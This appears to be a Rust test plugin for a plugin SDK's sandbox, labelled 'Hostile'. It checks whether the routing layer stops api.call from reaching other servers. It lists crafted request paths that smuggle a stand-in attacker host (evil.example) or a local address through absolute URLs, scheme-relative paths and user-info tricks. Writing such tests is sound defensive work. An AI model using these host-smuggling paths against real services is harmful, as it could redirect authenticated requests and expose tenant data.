//! Hostile: points `api.call` at another server: absolute URLs,
//! scheme-relative paths, user-info tricks.

use falcon_sdk::{Input, Plugin};
use hostile::call;
use serde_json::json;

falcon_sdk::manifest! {
    name: "route-other-host",
    version: "0.1.0",
    description: "Hostile: other hosts in api.call paths",
    scopes: ["users:read"],
}

struct Routes;

/// Each (method, path) the plugin tries; `users:read` is granted, so only
/// the route table stands between these and the tenant.
const TRIES: &[(&str, &str)] = &[
    (
        "GET",
        "http://evil.example/user-management/queries/users/v1",
    ),
    (
        "GET",
        "https://127.0.0.1:9/user-management/queries/users/v1",
    ),
    ("GET", "//evil.example/user-management/queries/users/v1"),
    ("GET", "evil.example/user-management/queries/users/v1"),
    ("GET", "/@evil.example/user-management/queries/users/v1"),
    ("GET", "/user-management/queries/users/v1@evil.example"),
];

impl Plugin for Routes {
    fn run(_input: Input) -> Result<String, String> {
        let answers: serde_json::Map<String, serde_json::Value> = TRIES
            .iter()
            .map(|(method, path)| (format!("{method} {path}"), call(method, path)))
            .collect();
        Ok(json!(answers).to_string())
    }
}

falcon_sdk::export_plugin!(Routes);
